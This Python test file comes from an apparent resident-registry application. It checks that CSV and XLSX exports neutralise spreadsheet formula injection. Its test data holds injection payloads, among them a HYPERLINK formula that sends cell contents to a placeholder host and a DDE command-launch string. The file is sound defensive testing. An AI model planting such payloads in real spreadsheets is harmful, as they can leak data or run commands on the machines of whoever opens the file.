"""Every CSV and XLSX the desk writes keeps cells a spreadsheet would evaluate as text, and the
desk's own import reads such a file back to the original values."""

from __future__ import annotations

import csv
import datetime as dt

from openpyxl import load_workbook

from kyojo_desk.privacy import export_person_csv
from kyojo_desk.spreadsheet import FORMULA_STARTS, append_xlsx_row, read_cell, safe_cell
from kyojo_desk.store import Store
from kyojo_desk.store.districts import District
from kyojo_desk.store.kpi import compute_kpis, export_kpis_csv, export_kpis_xlsx
from kyojo_desk.store.roster_csv import export_roster, import_roster
from tests.conftest import UENOHARA_DISTRICTS

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"詳しくはこちら")',
    "+81-554-62-1111に電話",
    "-2+3",
    "@SUM(A1:A9)",
    "'=1+1",  # already an apostrophe before a formula: must come back with its apostrophe
    "''+2",
    "'ふつうの引用",
    "ふつうのメモ",
]


def cells_of(path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def assert_nothing_evaluates(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell


def test_safe_cell_and_read_cell_are_inverse_and_leave_plain_text_alone():
    for text in [*HOSTILE, "\tタブ", "\r改行", "", "'", "''", "=", "1-2", "高橋 花子"]:
        written = safe_cell(text)
        assert not written.startswith(FORMULA_STARTS)
        assert read_cell(written) == text
    assert safe_cell("高橋") == "高橋" and safe_cell(-5) == -5 and safe_cell(None) is None


def test_registry_export_neutralises_and_the_import_reads_it_back(store, make_resident, tmp_path):
    made = [
        make_resident(
            family_name=notes[:8] if index % 2 else "高橋",
            given_name=f"{index}郎",
            given_reading="たろう",
            notes=notes,
            phone=f"0554-62-{1000 + index}",
        )
        for index, notes in enumerate(HOSTILE)
    ]
    exported = tmp_path / "registry.csv"
    assert export_roster(store, exported) == len(HOSTILE)
    assert_nothing_evaluates(cells_of(exported))

    fresh = Store.open(tmp_path / "fresh.db")
    try:
        fresh.replace_districts([District(d.code, d.name, d.reading) for d in UENOHARA_DISTRICTS])
        report = import_roster(fresh, exported)
        assert report.rejected == [] and report.imported == len(HOSTILE)
        back = {(r.given_name, r.family_name, r.notes) for r in fresh.list_residents()}
    finally:
        fresh.close()
    assert back == {(r.given_name, r.family_name, r.notes) for r in made}


def test_rejected_rows_file_neutralises_the_rows_it_repeats(store, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "氏名,ふりがな,備考\n=cmd|' /C calc'!A0,,@SUM(1)\n", encoding="utf-8"
    )  # no reading: rejected
    rejects = tmp_path / "rejects.csv"
    report = import_roster(store, roster, rejects_path=rejects)
    assert report.rejected_count == 1
    cells = cells_of(rejects)
    assert_nothing_evaluates(cells)
    assert [read_cell(c) for c in cells[-3:]] == ["=cmd|' /C calc'!A0", "", "@SUM(1)"]


def test_disclosure_csv_neutralises_the_persons_values(store, make_resident, tmp_path):
    person = make_resident(notes="=1+1", family_name="@高橋")
    path = export_person_csv(store, person.id, tmp_path / "disclosure.csv")
    cells = cells_of(path)
    assert_nothing_evaluates(cells)
    assert "'=1+1" in cells and "'@高橋" in cells


def test_kpi_csv_and_xlsx_keep_formula_like_text_as_text(store, tmp_path):
    figures = compute_kpis(store, dt.date(2026, 1, 1), dt.date(2026, 12, 31), None)
    figures["targets"] = {"=HYPERLINK(1)": 3}  # a target named like a formula
    export_kpis_csv(figures, tmp_path / "kpi.csv")
    assert_nothing_evaluates(cells_of(tmp_path / "kpi.csv"))
    export_kpis_xlsx(figures, tmp_path / "kpi.xlsx")
    sheet = load_workbook(tmp_path / "kpi.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    formula_like = [cell for cell in cells if cell.value == "=HYPERLINK(1)"]
    assert formula_like and formula_like[0].data_type == "s" and formula_like[0].quotePrefix


def test_xlsx_rows_keep_numbers_as_numbers(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    append_xlsx_row(book.active, ["-3", -3, "=A1", None, "ふつう"])
    book.save(tmp_path / "row.xlsx")
    row = next(load_workbook(tmp_path / "row.xlsx").active.iter_rows())
    assert [cell.value for cell in row] == ["-3", -3, "=A1", None, "ふつう"]
    assert [cell.data_type for cell in row] == ["s", "n", "s", "n", "s"]
